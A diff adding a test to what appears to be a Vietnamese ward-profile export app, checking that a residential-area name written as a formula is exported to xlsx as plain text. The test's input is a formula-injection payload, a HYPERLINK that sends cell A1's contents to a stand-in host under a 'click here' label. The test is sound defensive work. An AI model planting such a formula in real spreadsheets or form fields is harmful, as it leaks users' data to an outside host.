@@ -196,3 +196,12 @@ def test_the_profile_workbook_can_be_summed_and_printed(login, people, units):
     assert (areas["A7"].value, areas["A7"].number_format) == (1, "0")
     for sheet in book.worksheets:
         readback.assert_sheet_printable(sheet, header_row=6)
+
+
+def test_a_name_written_as_a_formula_is_exported_as_text(login, people, units):
+    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
+    ResidentialArea.objects.create(ward=units["ward"], kind=AreaKind.THON, name=hostile)
+    job = print_profile(login(people["ward_official"]), units["ward"], "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert [cell.data_type for cell in cells] == ["s"]
